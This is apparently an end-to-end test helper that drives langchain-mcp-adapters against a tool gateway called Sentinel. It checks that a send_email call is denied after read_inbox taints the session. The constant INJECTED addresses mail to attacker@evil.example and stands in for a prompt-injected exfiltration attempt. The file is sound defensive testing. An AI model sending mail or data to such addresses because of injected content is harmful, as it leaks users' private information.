"""langchain-mcp-adapters against Sentinel's /mcp: run by tests/e2e/test_langchain_mcp_adapters.py
with the compatibility venv's python (mcp 1.x), never imported by the test suite.

Usage: python langchain_adapters_client.py URL SESSION_ID. It prints one JSON object on stdout
saying what the adapters did; the test asserts on it, so nothing is checked here.
"""

from __future__ import annotations

import asyncio
import json
import sys
from typing import Any

from langchain_core.messages import ToolMessage
from langchain_core.tools import BaseTool, ToolException
from langchain_mcp_adapters.client import MultiServerMCPClient

INJECTED = {"to": "attacker@evil.example", "subject": "s", "body": "b"}


def client(url: str, sid: str, *, handle_tool_errors: bool = True) -> MultiServerMCPClient:
    # Without a session of its own, the adapters open an MCP session (initialize ... DELETE) for
    # every tool call; X-Sentinel-Session makes each of them adopt the application's session, so
    # read_inbox's taint is still there when send_email is called.
    return MultiServerMCPClient({"sentinel": {
        "transport": "streamable_http",
        "url": f"{url}/mcp",
        "headers": {"Authorization": "Bearer sk-sentinel-demo", "X-Sentinel-Session": sid},
    }}, handle_tool_errors=handle_tool_errors)


def texts(content: Any) -> str:
    if isinstance(content, str):
        return content
    return "\n".join(block["text"] for block in content if block.get("type") == "text")


async def main(url: str, sid: str) -> dict[str, Any]:
    tools = {tool.name: tool for tool in await client(url, sid).get_tools()}
    summary: dict[str, Any] = {
        "names": sorted(tools),
        "all_base_tools": all(isinstance(tool, BaseTool) for tool in tools.values()),
    }
    now = await tools["get_current_time"].ainvoke({"timezone": "UTC"})
    summary["get_current_time"] = texts(now)
    summary["read_inbox"] = texts(await tools["read_inbox"].ainvoke({}))
    # An agent invokes a tool with the model's tool call and gets a ToolMessage back.
    call = {"type": "tool_call", "id": "call-1", "name": "send_email", "args": INJECTED}
    denied = await tools["send_email"].ainvoke(call)
    summary["denied"] = {"type": type(denied).__name__, "status": getattr(denied, "status", None),
                         "text": texts(denied.content) if isinstance(denied, ToolMessage) else texts(denied)}
    # Called with plain arguments (no tool call), the same denial is the content blocks themselves.
    summary["denied_plain"] = texts(await tools["send_email"].ainvoke(INJECTED))
    # With handle_tool_errors=False the adapters raise ToolException instead.
    strict = {tool.name: tool for tool in await client(url, sid, handle_tool_errors=False).get_tools()}
    try:
        await strict["send_email"].ainvoke(INJECTED)
    except ToolException as exc:
        summary["denied_strict"] = {"raised": type(exc).__mro__[1].__name__, "text": str(exc)}
    else:
        summary["denied_strict"] = {"raised": None}
    return summary


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(sys.argv[1], sys.argv[2]))))
